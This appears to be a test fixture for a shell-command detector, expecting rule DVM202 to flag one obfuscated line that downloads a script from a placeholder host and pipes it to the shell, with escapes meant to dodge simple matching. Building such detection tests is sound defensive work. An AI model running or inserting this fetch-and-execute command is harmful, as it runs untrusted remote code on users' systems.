# expect: DVM202
c\url -s https://example.org/i.sh | s"h"
